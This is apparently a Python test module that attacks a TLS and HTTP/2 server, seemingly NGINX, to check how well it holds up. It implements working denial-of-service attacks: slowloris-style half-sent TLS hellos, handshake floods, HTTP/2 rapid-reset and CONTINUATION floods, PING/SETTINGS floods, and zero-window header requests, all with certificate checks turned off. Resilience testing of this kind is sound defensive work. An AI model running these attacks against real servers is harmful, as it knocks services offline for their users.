"""Attacks by TLS and HTTP/2, as `attacker.py` has those without: the target is the host that is asked for."""

from __future__ import annotations

import ssl
import threading
from contextlib import closing
from socket import create_connection
from typing import TYPE_CHECKING

from tests.hostile import frames

if TYPE_CHECKING:
    from collections.abc import Callable
    from socket import socket

    from tests.hostile.attacker import Attack

BEGUN = bytes.fromhex("160301020001 0001fc0303")  # a hello of 512 bytes, and no more of it
PATIENCE = 5  # seconds for one step of one connection
AT_ONCE = 8  # connections of somebody who only wants to be a burden
BATCH = 100  # requests that are sent in one go


def shake_hands(attack: Attack, *protocols: str) -> ssl.SSLSocket:
    """Connect. Raises OSError."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    wire = create_connection(attack.door, timeout=PATIENCE)
    try:
        return context.wrap_socket(wire, server_hostname=attack.target)
    except OSError:
        wire.close()
        raise


def burden(attack: Attack, act: Callable[[socket], None], *protocols: str) -> None:
    """Do something on a connection, and on the next one once that ends."""

    def work() -> None:
        while attack.left > 0:
            try:
                with closing(shake_hands(attack, *protocols)) as wire:
                    act(wire)
            except OSError:
                attack.note("ended by NGINX")

    threads = [threading.Thread(target=work) for _ in range(AT_ONCE)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def hellos(attack: Attack) -> None:
    """TLS that is begun and never goes on."""
    attack.hold(9000, BEGUN)


def handshakes(attack: Attack) -> None:
    """TLS handshakes as fast as they are answered."""
    burden(attack, lambda _: attack.note("sent"))


def crowd(attack: Attack) -> None:
    """Connections by TLS that ask for nothing and stay."""
    attack.hold(3000, b"", connect=lambda: shake_hands(attack))


def resets(attack: Attack) -> None:
    """Requests by HTTP/2 that are taken back at once."""

    def act(wire: socket) -> None:
        host, first = attack.target.encode(), 1
        wire.sendall(frames.greet())
        while attack.left > 0:
            numbers = range(first, first + 2 * BATCH, 2)
            wire.sendall(b"".join(frames.ask(n, host) + frames.take_back(n) for n in numbers))
            attack.note(f"{BATCH} requests taken back")
            first = numbers[-1] + 2

    burden(attack, act, "h2")


def continuations(attack: Attack) -> None:
    """Heads by HTTP/2 that go on for ever."""

    def act(wire: socket) -> None:
        wire.sendall(frames.greet() + frames.frame(frames.HEADERS, 0, 1, frames.head(b"x")))
        field = b"\0" + frames.text(b"x") + frames.text(b"a" * 8000)
        while attack.left > 0:
            wire.sendall(frames.frame(frames.CONTINUATION, 0, 1, field))
            attack.note("sent")

    burden(attack, act, "h2")


def pings(attack: Attack) -> None:
    """Pings and settings by HTTP/2, whose answers nobody reads."""
    both = frames.frame(frames.PING, 0, 0, bytes(8)) + frames.frame(frames.SETTINGS, 0, 0)

    def act(wire: socket) -> None:
        wire.sendall(frames.greet())
        while attack.left > 0:
            wire.sendall(both * BATCH)
            attack.note(f"{2 * BATCH} sent")

    burden(attack, act, "h2")


def unread(attack: Attack) -> None:
    """The largest heads by HTTP/2, as many as may be, for answers of NGINX's own that nobody reads."""

    def connect() -> socket:
        wire = shake_hands(attack, "h2")
        wire.sendall(frames.greet(window=0))
        most = frames.read_most(wire.recv(4096))
        asked = (frames.ask_dearly(number, b"nobody.invalid") for number in frames.streams(most))
        wire.sendall(b"".join(asked))
        return wire

    attack.hold(2000, b"", connect=connect)


ATTACKS = (hellos, handshakes, crowd, resets, continuations, pings, unread)
